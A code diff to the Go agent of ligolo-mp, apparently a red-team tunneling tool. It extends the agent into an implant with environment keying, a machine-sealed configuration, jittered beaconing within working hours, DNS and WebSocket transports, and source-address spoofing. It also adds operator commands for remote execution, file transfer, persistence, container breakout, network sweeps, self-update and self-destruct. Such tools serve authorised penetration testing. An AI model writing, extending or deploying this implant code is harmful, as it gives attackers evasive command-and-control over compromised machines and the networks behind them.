@@ -12,153 +12,286 @@ import (
 	"net/url"
 	"os"
 	"os/user"
+	"runtime"
 	"strconv"
 	"strings"
 	"syscall"
 	"time"
 
 	"github.com/hashicorp/yamux"
+	"github.com/ttpreport/ligolo-mp-agent/internal/container"
+	"github.com/ttpreport/ligolo-mp-agent/internal/guardrails"
 	"github.com/ttpreport/ligolo-mp-agent/internal/neterror"
+	"github.com/ttpreport/ligolo-mp-agent/internal/netns"
 	"github.com/ttpreport/ligolo-mp-agent/internal/protocol"
 	connectproxy "github.com/ttpreport/ligolo-mp-agent/internal/proxy/connect"
 	"github.com/ttpreport/ligolo-mp-agent/internal/relay"
 	"github.com/ttpreport/ligolo-mp-agent/internal/smartping"
+	"github.com/ttpreport/ligolo-mp-agent/internal/sysproxy"
+	"github.com/ttpreport/ligolo-mp-agent/internal/throttle"
+	"github.com/ttpreport/ligolo-mp-agent/internal/transport"
 	"golang.org/x/net/proxy"
 )
 
+const maxThroughputSize = 1 << 30
+
 var (
 	redirectorMap map[string]relay.Redirector
+	targetDialer  *netns.Dialer
+	containerInfo protocol.ContainerInfo
 )
 
-func main() {
-	defer func() { // probably okay
-		if err := recover(); err != nil {
-			main()
-		}
-	}()
-
-	timeout := 10 * time.Second
-	proxy.RegisterDialerType("http", connectproxy.HttpHandler(timeout))
-	proxy.RegisterDialerType("https", connectproxy.HttpsHandler(timeout, &tls.Config{
-		InsecureSkipVerify: true,
-	}))
+// run is the agent's entrypoint, args are only present when running as a standalone process. The tunnel is started
+// again whenever it panics
+func run(args []string) {
+	supervise("tunnel", true, func() {
+		tunnel(args)
+	})
+}
 
+// tunnel connects to the servers and serves the session, it only returns if the agent isn't meant to run here
+func tunnel(args []string) {
 	var tlsConfig tls.Config
 	var proxyServer = `{{ .ProxyServer }}`
+	var userAgent = `{{ .UserAgent }}`
+	var transportProfile = `{{ .Profile }}`
 	var servers = strings.Split(`{{ .Servers }}`, "\n")
 	var AgentCert = []byte(`{{ .AgentCert }}`)
 	var AgentKey = []byte(`{{ .AgentKey }}`)
 	var CACert = []byte(`{{ .CACert }}`)
+	var serverPins = strings.Fields(`{{ range .Pinning.Pins }}{{ . }} {{ end }}`)
+	var serverCRL = []byte(`{{ .Pinning.CRL }}`)
 	var ignoreEnvProxy, _ = strconv.ParseBool(`{{ .IgnoreEnvProxy }}`)
+	var namespace = `{{ .Netns }}`
+	var vrf = `{{ .VRF }}`
+	var beaconInterval, _ = time.ParseDuration(`{{ .Beacon }}`)
+	var jitter, _ = strconv.ParseUint(`{{ .Schedule.Jitter }}`, 10, 8)
+	var workingHours = `{{ .Schedule.WorkingHours }}`
+	var muxKeepAlive = `{{ .Multiplexer.KeepAlive }}`
+	var muxWriteTimeout = `{{ .Multiplexer.WriteTimeout }}`
+	var muxMaxStreams = `{{ .Multiplexer.MaxStreams }}`
+	var sealed = `{{ .Sealed }}`
+	var keySource = `{{ .KeySource }}`
+	var rotationStrategy = `{{ .Rotation }}`
+	var retries = `{{ .Retries }}`
+	var backoffs = `{{ .Backoff }}`
+	var guards = guardrails.Guardrails{
+		Domain:    `{{ .Guardrails.Domain }}`,
+		Hostname:  `{{ .Guardrails.Hostname }}`,
+		Username:  `{{ .Guardrails.Username }}`,
+		Locale:    `{{ .Guardrails.Locale }}`,
+		NotBefore: `{{ .Guardrails.NotBefore }}`,
+		NotAfter:  `{{ .Guardrails.NotAfter }}`,
+	}
 
-	flag.Usage = func() {}
-	var insecure = flag.Bool("insecure", false, "")
-	flag.Parse()
+	flags := flag.NewFlagSet("agent", flag.ContinueOnError)
+	flags.SetOutput(io.Discard)
+	var insecure = flags.Bool("insecure", false, "")
+	var hostnet = flags.Bool("hostnet", false, "")
+	var key = flags.String("key", "", "")
+	flags.StringVar(&namespace, "netns", namespace, "")
+	flags.StringVar(&vrf, "vrf", vrf, "")
+	addOverrideFlags(flags)
+	flags.Parse(args)
+
+	timeout := 10 * time.Second
+	proxy.RegisterDialerType("http", connectproxy.HttpHandler(timeout, userAgent))
+	proxy.RegisterDialerType("https", connectproxy.HttpsHandler(timeout, &tls.Config{
+		InsecureSkipVerify: true,
+	}, userAgent))
+	transport.Register(transport.NewWebSocket(transport.WebSocketSettings{UserAgent: userAgent}))
+	transport.Register(transport.NewDNS(transport.DNSSettings{UserAgent: userAgent}))
+	profile, err := applyProfile(transportProfile)
+	if err != nil {
+		return // the server would not make sense of anything we send
+	}
+
+	if !guards.Check(time.Now()) {
+		return // not the environment we were built for
+	}
+
+	if sealed != "" {
+		config, err := unseal(sealed, keySource, *key)
+		if err != nil {
+			return // not the machine we were built for
+		}
+		proxyServer = config[0]
+		servers = strings.Split(config[1], "\n")
+		CACert = []byte(config[2])
+		AgentCert = []byte(config[3])
+		AgentKey = []byte(config[4])
+		serverPins = strings.Fields(config[5])
+	}
+
+	servers, proxyServer = applyOverride(servers, proxyServer)
+	setIdentity(AgentCert, AgentKey, CACert)
+
+	detected := container.Detect()
+	containerInfo = protocol.ContainerInfo{
+		Runtime:     detected.Runtime,
+		HostNetwork: detected.HostNetwork,
+		HostNetns:   detected.HostNetns,
+		ViaHost:     detected.HostNetwork,
+	}
+	if *hostnet && namespace == "" && detected.HostNetns != "" {
+		namespace = detected.HostNetns
+		containerInfo.ViaHost = true
+	}
+
+	targetDialer = &netns.Dialer{
+		Namespace: namespace,
+		VRF:       vrf,
+	}
 
-	var conn net.Conn
 	redirectorMap = make(map[string]relay.Redirector)
+	beacon.SetInterval(beaconInterval)
+	beacon.SetJitter(uint8(jitter))
+	beacon.SetWorkingHours(workingHours)
+	setMultiplexer(muxKeepAlive, muxWriteTimeout, muxMaxStreams)
 
-	for {
-		for _, server := range servers {
-			host, _, err := net.SplitHostPort(server)
-			if err != nil {
-				continue
-			}
+	dial := func(server string) (net.Conn, error) {
+		serverTransport, address, err := transport.Parse(server)
+		if err != nil {
+			return nil, err
+		}
 
-			ca := x509.NewCertPool()
-			if ok := ca.AppendCertsFromPEM(CACert); !ok {
-				continue
-			}
+		hostPort, _ := transport.SplitPath(address)
+		host, _, err := net.SplitHostPort(hostPort)
+		if err != nil {
+			return nil, err
+		}
 
-			mtlsCert, err := tls.X509KeyPair(AgentCert, AgentKey)
-			if err != nil {
-				continue
-			}
+		ca := x509.NewCertPool()
+		if ok := ca.AppendCertsFromPEM(CACert); !ok {
+			return nil, errors.New("invalid CA certificate")
+		}
 
-			tlsConfig = tls.Config{
-				RootCAs:            ca,
-				ServerName:         host,
-				Certificates:       []tls.Certificate{mtlsCert},
-				InsecureSkipVerify: true,
-				VerifyPeerCertificate: func(rawCerts [][]byte, _ [][]*x509.Certificate) error {
-					cert, err := x509.ParseCertificate(rawCerts[0])
-					if err != nil {
+		mtlsCert, err := currentIdentity()
+		if err != nil {
+			return nil, err
+		}
+
+		tlsConfig = tls.Config{
+			RootCAs:            ca,
+			ServerName:         host,
+			Certificates:       []tls.Certificate{mtlsCert},
+			InsecureSkipVerify: true,
+			VerifyPeerCertificate: func(rawCerts [][]byte, _ [][]*x509.Certificate) error {
+				cert, err := x509.ParseCertificate(rawCerts[0])
+				if err != nil {
+					return err
+				}
+
+				options := x509.VerifyOptions{
+					Roots: ca,
+				}
+				if options.Roots == nil {
+					return errors.New("no root certificate")
+				}
+
+				if !*insecure {
+					if err := verifyChain(cert, options); err != nil {
 						return err
 					}
 
-					options := x509.VerifyOptions{
-						Roots: ca,
-					}
-					if options.Roots == nil {
-						return errors.New("no root certificate")
+					if err := checkPins(cert, serverPins); err != nil {
+						return err
 					}
 
-					if !*insecure {
-						if _, err := cert.Verify(options); err != nil {
-							return err
-						}
+					if err := checkRevoked(cert, CACert, serverCRL); err != nil {
+						return err
 					}
+				}
 
-					return nil
-				},
-			}
+				return nil
+			},
+		}
+
+		dialer := &net.Dialer{
+			Timeout: timeout,
+		}
 
-			dialer := &net.Dialer{
-				Timeout: timeout,
+		if proxyServer == "" && !ignoreEnvProxy {
+			return dialDetected(serverTransport, dialer, address, &tlsConfig)
+		}
+
+		var serverDialer transport.Dialer = dialer
+		path := "direct"
+		if proxyServer != "" {
+			u, err := url.Parse(proxyServer)
+			if nil != err {
+				return nil, err
 			}
+			serverDialer, err = proxy.FromURL(u, dialer)
+			if nil != err {
+				return nil, err
+			}
+			path = sysproxy.Candidate{URL: u, Source: "build"}.String()
+		}
 
-			if proxyServer != "" {
-				u, err := url.Parse(proxyServer)
-				if nil != err {
-					continue
-				}
-				d, err := proxy.FromURL(u, dialer)
-				if nil != err {
-					continue
+		conn, err := serverTransport.Dial(serverDialer, address, &tlsConfig)
+		if err == nil {
+			setEgress(serverTransport.Name(), path)
+		}
+		return conn, err
+	}
+
+	setSelfTest(servers, proxyServer, ignoreEnvProxy, [][]byte{AgentCert, CACert}, dial)
+
+	rotation := newRotation(rotationStrategy, len(servers), retries, backoffs)
+	for {
+		beacon.Rest()
+
+	pass:
+		for _, i := range rotation.Order() {
+			for attempt := 0; attempt < rotation.Retries(i); attempt++ {
+				if attempt > 0 {
+					time.Sleep(rotation.Backoff(i, attempt))
 				}
 
-				conn, err = d.Dial("tcp", server)
+				conn, err := dial(servers[i])
 				if err != nil {
 					continue
 				}
-			} else {
-				if ignoreEnvProxy {
-					conn, err = net.DialTimeout("tcp", server, timeout)
-					if err != nil {
-						continue
-					}
-				} else {
-					proxyDialer := proxy.FromEnvironmentUsing(dialer)
-					conn, err = proxyDialer.Dial("tcp", server)
-					if err != nil {
-						continue
-					}
+
+				rotation.Connected(i)
+				upgraded := watchUpgrade(servers, i, dial)
+				connect(shape(profile, servers[i], conn))
+				if server := upgraded(); server >= 0 {
+					rotation.Prefer(server)
 				}
+				break pass // start over once the session ends, the strategy picks where
 			}
-
-			connect(conn, &tlsConfig)
 		}
 
-		time.Sleep(5 * time.Second)
+		beacon.Wait(5 * time.Second)
 	}
 }
 
-func connect(conn net.Conn, config *tls.Config) error {
-	tlsConn := tls.Client(conn, config)
-
-	yamuxConf := yamux.DefaultConfig()
-	yamuxConf.LogOutput = io.Discard
-	yamuxConn, err := yamux.Server(tlsConn, yamuxConf)
+func connect(conn net.Conn) error {
+	yamuxConn, err := yamux.Server(throttle.Conn(conn, &bandwidth.read, &bandwidth.write), multiplexerConfig())
 	if err != nil {
 		return err
 	}
+	setUpstream(yamuxConn)
+
+	stop := beacon.Watch(yamuxConn)
+	defer stop()
 
 	for {
 		conn, err := yamuxConn.Accept()
 		if err != nil {
 			return err
 		}
-		go handleConn(conn)
+		if tooManyStreams(yamuxConn) {
+			conn.Close()
+			continue
+		}
+		go func() {
+			if watchdog.run("stream", func() { handleConn(conn) }) {
+				conn.Close()
+			}
+		}()
 	}
 }
 
@@ -168,11 +301,14 @@ func handleConn(conn net.Conn) {
 		return
 	}
 
+	// reply in whatever encoding the server used
+	encoder := protocol.NewEncoder(conn)
+	encoder.SetEncoding(decoder.Envelope.Encoding)
+
 	e := decoder.Envelope.Payload
 	switch decoder.Envelope.Type {
 	case protocol.MessageConnectRequest:
 		connRequest := e.(protocol.ConnectRequestPacket)
-		encoder := protocol.NewEncoder(conn)
 		var network string
 		if connRequest.Transport == protocol.TransportTCP {
 			network = "tcp"
@@ -185,11 +321,28 @@ func handleConn(conn net.Conn) {
 			network += "6"
 		}
 
+		if connRequest.Compression != protocol.CompressionNone && !protocol.IsSupportedCompression(connRequest.Compression) {
+			encoder.Encode(protocol.Envelope{
+				Type:    protocol.MessageConnectResponse,
+				Payload: protocol.ConnectResponsePacket{},
+			})
+			return
+		}
+
 		ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
 		defer cancel()
-		var d net.Dialer
-		targetConn, err := d.DialContext(ctx, network, fmt.Sprintf("%s:%d", connRequest.Address, connRequest.Port))
 		var connectPacket protocol.ConnectResponsePacket
+		var targetConn net.Conn
+		var err error
+		target := net.JoinHostPort(connRequest.Address, strconv.Itoa(int(connRequest.Port)))
+		if connRequest.SourceAddress != "" {
+			// falls back to a regular connection if we lack privileges to spoof
+			targetConn, err = targetDialer.DialFromContext(ctx, network, connRequest.SourceAddress, target)
+			connectPacket.Spoofed = err == nil
+		}
+		if targetConn == nil {
+			targetConn, err = targetDialer.DialContext(ctx, network, target)
+		}
 		if err != nil {
 			var serr syscall.Errno
 			if errors.As(err, &serr) {
@@ -212,12 +365,10 @@ func handleConn(conn net.Conn) {
 		}
 
 		if connectPacket.Established {
-			relay.StartRelay(conn, targetConn)
+			relay.StartRelay(protocol.Compress(conn, connRequest.Compression), targetConn)
 		}
 	case protocol.MessageHostPingRequest:
 		pingRequest := e.(protocol.HostPingRequestPacket)
-		encoder := protocol.NewEncoder(conn)
-
 		pingResponse := protocol.HostPingResponsePacket{Alive: smartping.TryResolve(pingRequest.Address)}
 
 		encoder.Encode(protocol.Envelope{
@@ -225,8 +376,8 @@ func handleConn(conn net.Conn) {
 			Payload: pingResponse,
 		})
 	case protocol.MessageInfoRequest:
+		infoRequest := e.(protocol.InfoRequestPacket)
 		var username string
-		encoder := protocol.NewEncoder(conn)
 		hostname, err := os.Hostname()
 		if err != nil {
 			hostname = "UNKNOWN"
@@ -239,33 +390,46 @@ func handleConn(conn net.Conn) {
 			username = userinfo.Username
 		}
 
-		netifaces, err := net.Interfaces()
+		interfaces, err := netInterfaces()
 		if err != nil {
 			return
 		}
 
-		var nonloopbackIfaces []net.Interface
-		for _, iface := range netifaces {
-			if iface.Flags&net.FlagLoopback == 0 {
-				nonloopbackIfaces = append(nonloopbackIfaces, iface)
-			}
-		}
-
 		infoResponse := protocol.InfoReplyPacket{
-			Name:        fmt.Sprintf("%s@%s", username, hostname),
-			Hostname:    hostname,
-			Interfaces:  protocol.NewNetInterfaces(nonloopbackIfaces),
-			Redirectors: protocol.NewRedirectorInterface(redirectorMap),
+			Name:         fmt.Sprintf("%s@%s", username, hostname),
+			Hostname:     hostname,
+			Interfaces:   interfaces,
+			Redirectors:  protocol.NewRedirectorInterface(redirectorMap),
+			Container:    containerInfo,
+			Time:         time.Now().UnixNano(),
+			Encoding:     protocol.NegotiateEncoding(infoRequest.Encodings),
+			Beacon:       int64(beacon.Interval()),
+			Socks:        socksAddress(),
+			Exec:         execEnabled,
+			Platform:     runtime.GOOS + "/" + runtime.GOARCH,
+			Version:      agentVersion(),
+			Jitter:       beacon.Jitter(),
+			WorkingHours: beacon.WorkingHours(),
+			Zone:         localZone(),
+			EgressPath:   egressPath(),
+			Transport:    egressTransport(),
+			Persistence:  persistMethods(),
+			Host:         collectHostInfo(),
+			Crashes:      watchdog.drain(),
+			Protocol:     protocol.Version,
+			MinProtocol:  protocol.MinVersion,
+			Compression:  protocol.NegotiateCompression(infoRequest.Compressions),
 		}
+		setUpstreamEncoding(infoResponse.Encoding)
 
-		encoder.Encode(protocol.Envelope{
+		if err := encoder.Encode(protocol.Envelope{
 			Type:    protocol.MessageInfoReply,
 			Payload: infoResponse,
-		})
+		}); err != nil {
+			watchdog.record(infoResponse.Crashes...)
+		}
 	case protocol.MessageRedirectorCloseRequest:
 		closeRequest := e.(protocol.RedirectorCloseRequestPacket)
-		encoder := protocol.NewEncoder(conn)
-
 		var err error
 		if lis, ok := redirectorMap[closeRequest.ID]; ok {
 			err = lis.Close()
@@ -287,10 +451,12 @@ func handleConn(conn net.Conn) {
 
 	case protocol.MessageRedirectorRequest:
 		redirectorRequest := e.(protocol.RedirectorRequestPacket)
-		encoder := protocol.NewEncoder(conn)
-
 		var redirectorResponse protocol.RedirectorResponsePacket
-		redirector, err := relay.NewLRedirector(redirectorRequest.ID, redirectorRequest.Network, redirectorRequest.From, redirectorRequest.To)
+		var dialer relay.Dialer = targetDialer
+		if redirectorRequest.Forward {
+			dialer = forwardDialer{redirectorID: redirectorRequest.ID}
+		}
+		redirector, err := newRedirector(redirectorRequest, dialer)
 		if err != nil {
 			redirectorResponse = protocol.RedirectorResponsePacket{
 				ID:        redirector.ID,
@@ -312,7 +478,9 @@ func handleConn(conn net.Conn) {
 				}
 				redirectorMap[redirector.ID] = redirector
 
-				go redirector.ListenAndRelay()
+				go supervise("redirector", true, func() {
+					redirector.ListenAndRelay()
+				})
 			}
 		}
 
@@ -320,8 +488,116 @@ func handleConn(conn net.Conn) {
 			Type:    protocol.MessageRedirectorResponse,
 			Payload: redirectorResponse,
 		})
+	case protocol.MessageSocksRequest:
+		socksRequest := e.(protocol.SocksRequestPacket)
+
+		encoder.Encode(protocol.Envelope{
+			Type:    protocol.MessageSocksResponse,
+			Payload: handleSocks(socksRequest),
+		})
+	case protocol.MessageFileListRequest:
+		listRequest := e.(protocol.FileListRequestPacket)
+
+		encoder.Encode(protocol.Envelope{
+			Type:    protocol.MessageFileListResponse,
+			Payload: listFiles(listRequest),
+		})
+	case protocol.MessageFileDownloadRequest:
+		handleFileDownload(conn, &encoder, e.(protocol.FileDownloadRequestPacket))
+	case protocol.MessageFileUploadRequest:
+		handleFileUpload(conn, &encoder, e.(protocol.FileUploadRequestPacket))
+	case protocol.MessageExecRequest:
+		handleExec(conn, &encoder, e.(protocol.ExecRequestPacket))
+	case protocol.MessageUpdateRequest:
+		handleUpdate(conn, &encoder, e.(protocol.UpdateRequestPacket))
+	case protocol.MessageCertificateRequest:
+		handleCertificate(conn, &encoder, e.(protocol.CertificateRequestPacket))
+	case protocol.MessageThroughputRequest:
+		throughputRequest := e.(protocol.ThroughputRequestPacket)
+		size := throughputRequest.Size
+		if size < 0 || size > maxThroughputSize {
+			size = maxThroughputSize
+		}
+
+		if err := encoder.Encode(protocol.Envelope{
+			Type:    protocol.MessageThroughputResponse,
+			Payload: protocol.ThroughputResponsePacket{Size: size},
+		}); err != nil {
+			return
+		}
+
+		buf := make([]byte, 32*1024)
+		for size > 0 {
+			chunk := int64(len(buf))
+			if size < chunk {
+				chunk = size
+			}
+
+			n, err := conn.Write(buf[:chunk])
+			if err != nil {
+				return
+			}
+			size -= int64(n)
+		}
+	case protocol.MessageScheduleRequest:
+		scheduleRequest := e.(protocol.ScheduleRequestPacket)
+		scheduleResponse := protocol.ScheduleResponsePacket{}
+		if _, err := protocol.ParseWorkingHours(scheduleRequest.WorkingHours); err != nil {
+			scheduleResponse.Err = true
+			scheduleResponse.ErrString = err.Error()
+		}
+
+		encoder.Encode(protocol.Envelope{
+			Type:    protocol.MessageScheduleResponse,
+			Payload: scheduleResponse,
+		})
+
+		if !scheduleResponse.Err { // only once the server knows, the session may be dropped right away
+			beacon.SetWorkingHours(scheduleRequest.WorkingHours)
+		}
+	case protocol.MessageNetworkRequest:
+		encoder.Encode(protocol.Envelope{
+			Type:    protocol.MessageNetworkResponse,
+			Payload: collectNetwork(),
+		})
+	case protocol.MessagePersistRequest:
+		encoder.Encode(protocol.Envelope{
+			Type:    protocol.MessagePersistResponse,
+			Payload: handlePersist(e.(protocol.PersistRequestPacket)),
+		})
+	case protocol.MessageBurnRequest:
+		handleBurn(conn, &encoder, e.(protocol.BurnRequestPacket))
+	case protocol.MessageBreakoutRequest:
+		encoder.Encode(protocol.Envelope{
+			Type:    protocol.MessageBreakoutResponse,
+			Payload: handleBreakout(e.(protocol.BreakoutRequestPacket)),
+		})
+	case protocol.MessageSweepRequest:
+		handleSweep(conn, &encoder, e.(protocol.SweepRequestPacket))
+	case protocol.MessageDiagnosticsRequest:
+		encoder.Encode(protocol.Envelope{
+			Type:    protocol.MessageDiagnosticsResponse,
+			Payload: handleDiagnostics(),
+		})
+	case protocol.MessageBandwidthRequest:
+		encoder.Encode(protocol.Envelope{
+			Type:    protocol.MessageBandwidthResponse,
+			Payload: handleBandwidth(e.(protocol.BandwidthRequestPacket)),
+		})
+	case protocol.MessageHostInfoRequest:
+		encoder.Encode(protocol.Envelope{
+			Type:    protocol.MessageHostInfoResponse,
+			Payload: protocol.HostInfoResponsePacket{Host: collectHostInfo()},
+		})
+	case protocol.MessageBeaconRequest:
+		beaconRequest := e.(protocol.BeaconRequestPacket)
+		beacon.Update(beaconRequest)
+
+		encoder.Encode(protocol.Envelope{
+			Type:    protocol.MessageBeaconResponse,
+			Payload: protocol.BeaconResponsePacket{Interval: beaconRequest.Interval},
+		})
 	case protocol.MessageDisconnectRequest:
-		encoder := protocol.NewEncoder(conn)
 		encoder.Encode(protocol.Envelope{
 			Type:    protocol.MessageRedirectorResponse,
 			Payload: protocol.DisconnectResponsePacket{},